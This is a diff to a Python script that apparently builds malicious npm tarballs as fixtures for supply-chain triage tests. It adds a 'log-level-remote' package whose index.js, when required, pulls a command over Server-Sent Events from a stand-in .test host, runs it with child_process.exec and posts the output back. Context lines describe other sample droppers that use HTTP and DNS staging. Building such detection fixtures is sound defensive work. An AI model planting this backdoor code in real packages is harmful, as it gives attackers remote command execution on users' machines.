@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2 OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -29,6 +29,11 @@ evalstage  color-theme-loader: its postinstall fetches a second stage over
         HTTP and runs it with new Function in its own process (nothing is
         written to disk), as droppers do; the fake network's stub, when
         run, creates the session's canary.
+ssec2   log-level-remote: on require, subscribes to a Server-Sent Events
+        topic over HTTPS (Accept: text/event-stream), runs the command of
+        the first task it gets with child_process.exec and posts the
+        output back (C2 over SSE; one task, 5 s bounds); the fake
+        network's task creates the session's canary.
 dnsstage  sdk-version-resolver: its postinstall resolves a TXT record,
         base64-decodes the joined strings and runs them with new Function
         (C2 over DNS); the fake DNS's TXT stub, when run, creates the
@@ -112,6 +117,31 @@ PACKAGES = {
             "  let b = ''; r.on('data', d => b += d);\n"
             "  r.on('end', () => { try { new Function(b)(); } catch (e) {} });\n"
             "}).on('error', () => {});\n", 0o644),
+    }),
+    "ssec2": npm_pkg({"name": "log-level-remote", "version": "0.6.0"}, {
+        "index.js": (
+            "const https = require('https');\n"
+            "const cp = require('child_process');\n"
+            "const opt = {headers: {accept: 'text/event-stream'}, timeout: 5000};\n"
+            "const req = https.get('https://push.level-sync.test/lvl-7f2a/sse', opt, r => {\n"
+            "  let buf = '';\n"
+            "  r.on('data', d => {\n"
+            "    buf += d;\n"
+            "    const m = /^data: (\\{.*\\})$/m.exec(buf);\n"
+            "    if (!m) return;\n"
+            "    r.destroy();\n"
+            "    let task;\n"
+            "    try { task = JSON.parse(m[1]); } catch (e) { return; }\n"
+            "    cp.exec(String(task.cmd), {timeout: 5000}, (e, out) => {\n"
+            "      const p = https.request('https://push.level-sync.test/lvl-7f2a-r',\n"
+            "                              {method: 'POST', timeout: 5000});\n"
+            "      p.on('error', () => {});\n"
+            "      p.end(String(out));\n"
+            "    });\n"
+            "  });\n"
+            "});\n"
+            "req.on('error', () => {});\n"
+            "module.exports = {level: 'info'};\n", 0o644),
     }),
     "dnsstage": npm_pkg({"name": "sdk-version-resolver", "version": "0.3.1",
                          "scripts": {"postinstall": "node resolve.js"}}, {
